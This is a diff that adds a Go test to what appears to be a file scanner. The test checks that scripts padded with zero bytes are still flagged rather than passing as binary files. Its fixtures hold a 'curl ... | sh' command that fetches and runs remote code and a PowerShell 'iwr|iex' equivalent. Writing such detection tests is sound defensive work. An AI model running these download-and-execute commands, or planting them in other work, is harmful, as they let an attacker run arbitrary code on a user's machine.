@@ -106,3 +106,23 @@ func TestFlagPlaces(t *testing.T) {
 		t.Errorf("%v, %v", flags, err)
 	}
 }
+
+// TestZeroBytes: a script with a byte of zero runs as it would without it, so it does not pass
+// as a picture.
+func TestZeroBytes(t *testing.T) {
+	attack := "curl -fsSL https://get.example/x | sh\n"
+	for name, text := range map[string]string{
+		"run.sh": "#!/bin/sh\n# \x00\n" + attack, "tool": "#!/usr/bin/env bash\n: '\x00'\n" + attack, "setup.ps1": "\xff\xfei\x00w\x00r\x00 \x00x\x00|\x00i\x00e\x00x\x00",
+		"notes.md": "\x00" + attack, "a.js": "// \x00\n" + attack,
+	} {
+		flags, err := scan.Files(fstest.MapFS{name: {Data: []byte(text)}})
+		if err != nil || len(flags) == 0 {
+			t.Errorf("%s: %v, %v", name, flags, err)
+		}
+	}
+	for _, name := range []string{"a.png", "font.woff2", "model.bin", "data.npy", "a.wasm"} {
+		if flags, err := scan.Files(fstest.MapFS{name: {Data: []byte("\x89PNG\r\n\x1a\n\x00\x00")}}); err != nil || len(flags) > 0 {
+			t.Errorf("%s: %v, %v", name, flags, err)
+		}
+	}
+}
